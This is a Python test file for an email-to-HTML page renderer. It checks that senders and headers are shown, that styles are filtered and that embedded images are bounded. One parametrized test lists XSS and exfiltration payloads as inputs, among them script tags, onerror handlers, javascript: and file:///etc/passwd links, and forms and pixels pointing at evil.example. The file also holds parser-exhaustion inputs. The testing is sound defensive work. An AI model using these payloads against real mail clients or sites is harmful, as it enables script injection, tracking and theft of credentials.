"""A mail as a page: what it says is there; what it would do is not."""

from __future__ import annotations

import re
import time
from email.message import EmailMessage

import nh3
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from selectolax.lexbor import LexborHTMLParser, LexborNode

from channels.mail import page
from channels.mail.page import POLICY, build_page
from tests.channels.mail.test_contents import ENTITY, opaque
from tests.channels.mail.test_contents import signed as seal
from tests.channels.mail.test_winmail import mail_with, winmail

PNG = b"\x89PNG\r\n\x1a\n" + b"\x00" * 40


def say(key: str) -> str:
    return f"[{key}]"


def shown(markup: str | bytes, head: str = "") -> str:
    octets = markup if isinstance(markup, bytes) else markup.encode()
    raw = f"From: Paul <paul@client.example>\n{head}Content-Type: text/html; charset=utf-8\n\n".encode() + octets
    return build_page(raw, say).decode()


def body(markup: str) -> str:
    return str(one(LexborHTMLParser(shown(markup)), "main").inner_html)


def one(tree: LexborHTMLParser, selector: str) -> LexborNode:
    found = tree.css_first(selector)
    assert found is not None
    return found


def test_what_a_mail_says_is_shown_with_who_wrote_it() -> None:
    text = build_page(
        "From: Léa Martin <lea@client.example>\r\nTo: Cabinet <cabinet@roux.example>, b@c.example\r\n"
        "Cc: x@y.example\r\nReply-To: z@y.example\r\nDate: Mon, 2 Mar 2026 09:00:00 +0100\r\n"
        "Subject: =?utf-8?q?Devis_=3Cb=3E?=\r\nContent-Type: text/html\r\n\r\n"
        "<h2 style='color: red'>Bonjour</h2><table><tr><td bgcolor=yellow>à</td></tr></table>"
        "<a href='https://client.example/x'>lien</a>".encode(),
        say,
    ).decode()
    tree = LexborHTMLParser(text)
    assert one(tree, "h1").text() == "Devis <b>"
    said = [dt.text() + " " + dd.text() for dt, dd in zip(tree.css("dt"), tree.css("dd"), strict=True)]
    assert said == [
        "[page.from] Léa Martin <lea@client.example>",
        "[page.reply_to] z@y.example",
        "[page.to] Cabinet <cabinet@roux.example>, b@c.example",
        "[page.cc] x@y.example",
        "[page.date] Mon, 2 Mar 2026 09:00:00 +0100",
    ]
    assert one(tree, "main h2").attributes["style"] == "color:red"
    assert one(tree, "main td").text() == "à"
    link = one(tree, "main a").attributes
    assert (link["href"], link["rel"]) == ("https://client.example/x", "noopener noreferrer")
    assert one(tree, "meta[http-equiv]").attributes["content"] == POLICY


def test_a_style_says_only_how_something_looks() -> None:
    assert 'style="color:red' in body("<p style='color: red; background: url(x); margin-top: -400px'>x</p>")
    for style in (
        "margin-top:-400px",
        "margin: 0 -400px",
        'font-family:"(a;position:fixed;b"',
        "position:fixed;top:0",
        "font-family:'x;margin-top:-9em'",
    ):
        markup = f"<p style='{style}'>x</p>" if '"' in style else f'<p style="{style}">x</p>'
        assert body(markup) in ("<p>x</p>", '<p style="">x</p>')


@pytest.mark.parametrize(
    "markup",
    [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "<svg onload=alert(1)><script>alert(1)</script></svg>",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
        "<a href='javascript:alert(1)'>x</a>",
        "<a href=' java&#10;script:alert(1)'>x</a>",
        "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
        "<a href='file:///etc/passwd'>x</a>",
        "<iframe src='https://evil.example'></iframe>",
        "<object data='https://evil.example'></object><embed src='https://evil.example'>",
        "<form action='https://evil.example'><input name=password><button>ok</button></form>",
        "<link rel=stylesheet href='https://evil.example/x.css'>",
        "<style>@import url(https://evil.example)</style>",
        "<base href='https://evil.example'>",
        "<meta http-equiv=refresh content='0;url=https://evil.example'>",
        "<img src='https://evil.example/pixel.gif' srcset='https://evil.example/2x.gif 2x'>",
        "<img src='//evil.example/pixel.gif'><img src='pixel.gif'>",
        "<img src='data:image/svg+xml,<svg onload=alert(1)>'>",
        "<video poster='https://evil.example/x'><source src='https://evil.example/y'></video>",
        "<p style='background:url(https://evil.example)'>x</p>",
        "<p style='background-color:red;list-style-image:url(https://evil.example)'>x</p>",
        "<p style='color:u\\72l(https://evil.example)'>x</p>",
        "<p style='width:expression(alert(1))'>x</p>",
        "<p style='position:fixed;top:0;color:red'>x</p>",
        "<table background='https://evil.example/x.gif'><td background='https://evil.example/y.gif'>x</table>",
        "</main></body><script>alert(1)</script>",
        "<!--><script>alert(1)</script>-->",
        "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
        "<template><script>alert(1)</script></template>",
        "<p id=x class=y ping='https://evil.example' onclick=alert(1)>x</p>",
    ],
)
def test_nothing_runs_is_fetched_or_sent(markup: str) -> None:
    whole = shown(markup)
    tree = LexborHTMLParser(whole)
    assert not tree.css("script, iframe, object, embed, form, input, link, base, svg, video, main style, main meta")
    assert not re.search(r"evil\.example(?!')", body(markup).replace("evil.example</", ""))
    for node in tree.css("main *"):
        for name, value in node.attributes.items():
            assert not name.startswith("on")
            assert name not in {"id", "class", "srcset", "background", "poster", "ping", "action"}
            assert not re.search(r"script:|data:|file:|url|expression|position", value or "", re.I)
    assert len(tree.css("main")) == 1


def with_picture(content_id: str = "<logo@x>", kind: str = "png", octets: bytes = PNG, count: int = 1) -> str:
    mail = EmailMessage()
    mail["From"], mail["Subject"] = "a@b.example", "x"
    mail.set_content("plain words")
    mail.add_alternative("<p>Rich <img src='cid:logo%40x' alt=Logo></p>" * count, subtype="html")
    _, rich = mail.iter_parts()
    assert isinstance(rich, EmailMessage)
    rich.add_related(octets, maintype="image", subtype=kind, cid=content_id)
    return build_page(mail.as_bytes(), say).decode()


def test_a_picture_of_the_text_is_in_its_place() -> None:
    text = with_picture()
    picture = one(LexborHTMLParser(text), "main img").attributes
    assert str(picture["src"]).startswith("data:image/png;base64,iVBOR")
    assert picture["alt"] == "Logo"
    assert "plain words" not in text
    assert "[page.files]" not in text


def test_pictures_are_bounded(monkeypatch: pytest.MonkeyPatch) -> None:
    assert "data:image" not in with_picture(kind="svg+xml")
    assert "data:image" not in with_picture("<other@x>")
    monkeypatch.setattr(page, "MOST_PICTURED", 250)
    assert with_picture(count=10).count("data:image") == 2
    monkeypatch.setattr(page, "LARGEST_PICTURE", 10)
    assert "data:image" not in with_picture()


def test_a_long_plain_mail_is_all_there() -> None:
    words = "\n".join(f"ligne {n} <b>&" for n in range(50_000))
    text = build_page(f"From: a@b.example\nContent-Type: text/plain; charset=utf-8\n\n{words}".encode(), say).decode()
    assert one(LexborHTMLParser(text), ".plain").text() == words
    assert "[page.no_subject]" in text


def test_files_are_named_and_texts_beside_one_another_all_shown() -> None:
    mail = EmailMessage()
    mail["From"] = "a@b.example"
    mail.set_content("Premier")
    mail.add_attachment(b"%PDF", maintype="application", subtype="pdf", filename="<devis>.pdf")
    mail.add_attachment("Second", disposition="inline")
    text = build_page(mail.as_bytes(), say).decode()
    assert "Premier" in text
    assert "Second" in text
    assert "[page.files] &lt;devis&gt;.pdf" in text


def test_what_stands_under_a_seal_or_in_a_winmail_is_shown() -> None:
    sealed = build_page(opaque(seal(ENTITY)), say).decode()
    assert "Sous le sceau, été." in sealed
    assert "[page.files] devis.pdf" in sealed
    in_outlook = mail_with(winmail(message=((0x1013, 0x102, b"<p>Bonjour <script>x</script><b>vous</b></p>"),)))
    assert "<p>Bonjour <b>vous</b></p>" in build_page(in_outlook, say).decode()


def test_a_charset_said_in_the_markup_is_believed() -> None:
    raw = b"From: a@b.example\nContent-Type: text/html\n\n<meta charset=windows-1252><p>\xe9t\xe9 \x80</p>"
    assert "<p>été €</p>" in build_page(raw, say).decode()


@settings(max_examples=100, deadline=None)
@given(st.binary(max_size=400))
def test_any_mail_makes_a_page(junk: bytes) -> None:
    for raw in (
        junk,
        b"Content-Type: text/html\n\n" + junk,
        b"Content-Type: multipart/related; boundary=x\n\n--x\n" + junk,
    ):
        build_page(raw, say)
    assert nh3.is_html(shown(junk))


def test_what_is_made_to_cost_time_does_not() -> None:
    bombs = ["<div>" * 400_000, "&" * 2_000_000, "&a;" * 600_000, "<a><b>" * 200_000, "<p>" * 59_000, "<!--" * 400_000]
    bombs += ["<p " + "".join(f"a{n}=b " for n in range(150_000)) + ">", "<a href='" + "x" * 2_000_000]
    bombs += ["<b>" * 480 + "<p>x</p>" * 20_000, "<font color=a>" * 400 + "<p>x" * 50_000, "<table><td>" * 200]
    started = time.process_time()
    for bomb in bombs:
        assert len(shown(bomb)) < 12_000_000
    assert time.process_time() - started < 6
